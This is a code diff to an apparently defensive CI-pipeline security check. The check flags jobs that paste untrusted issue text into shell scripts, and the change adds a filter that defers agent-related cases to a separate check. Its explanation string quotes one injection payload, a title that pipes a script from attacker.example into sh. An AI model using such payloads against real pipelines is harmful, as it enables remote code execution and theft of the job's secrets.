@@ -1,6 +1,6 @@
 import type { Asset } from '../../../core/snapshot.ts';
 import { defineCheck, type Fail, type Judgement } from '../../check.ts';
-import { type CiJob, isPrivate, jobsOf, keepsOutsidersOut, placeIn, pushes } from '../../ci.ts';
+import { type CiJob, injectionOf, isPrivate, jobsOf, keepsOutsidersOut, placeIn, pushes } from '../../ci.ts';
 import { textOf, type View } from '../../view.ts';
 import { listed } from '../../wording.ts';
 
@@ -54,21 +54,33 @@ function faultsOf(pipeline: Asset, job: CiJob, view: View): Fail[] {
         placeIn(pipeline, { file: job.file, line: job.line }, `job ${job.name}`),
       ],
     });
-  const [first] = job.injected ?? [];
+  const injected = (job.injected ?? []).filter((one) => !isToldWithAgent(pipeline, one, view));
+  const [first] = injected;
   if (first)
     out.push({
       ...base(pipeline, job, stakes, view, false),
       locus: `${job.name} script`,
       title: `Job ${job.name} pastes text of strangers into a script and holds ${listed(stakes, 2)}`,
-      saw: `Anybody can cause ${listed(job.open!)} in a public repository, which starts job ${job.name} with ${listed(stakes, 5)}; ${listed(job.injected!.map(({ expression }) => expression))} is put into the script before the shell reads it.`,
+      saw: `Anybody can cause ${listed(job.open!)} in a public repository, which starts job ${job.name} with ${listed(stakes, 5)}; ${listed(injected.map(({ expression }) => expression))} is put into the script before the shell reads it.`,
       why: `A title such as \`"; curl attacker.example/x | sh #\` is a command then: no model is needed, and everything the job holds is gone.`,
       fix: {
         text: `Hand the text over in an environment variable and quote it in the script: the shell then reads a value, not code.`,
         patch: `env:\n  TEXT: \${{ ${first.expression} }}\nrun: printf '%s' "$TEXT"`,
       },
-      evidence: job.injected!.slice(0, 10).map((one) => placeIn(pipeline, one, one.expression)),
+      evidence: injected.slice(0, 10).map((one) => placeIn(pipeline, one, one.expression)),
     });
   return out;
+}
+
+/** The line that hands the text to an agent: ci-agent-injection tells both ways it acts, and one condition closes both. */
+function isToldWithAgent(pipeline: Asset, { file, line }: { file: string; line: number }, view: View): boolean {
+  return view.out(pipeline, 'contains').some(({ to }) => {
+    if (to.kind !== 'agent') return false;
+    const text = to.properties['outsideText'];
+    const same =
+      Array.isArray(text) && (text as unknown as { file: string; line: number }[]).some((one) => one.file === file && one.line === line);
+    return same && injectionOf(to, view) !== undefined;
+  });
 }
 
 /** Source: docs.github.com, "Secure use reference", hardening for self-hosted runners. */
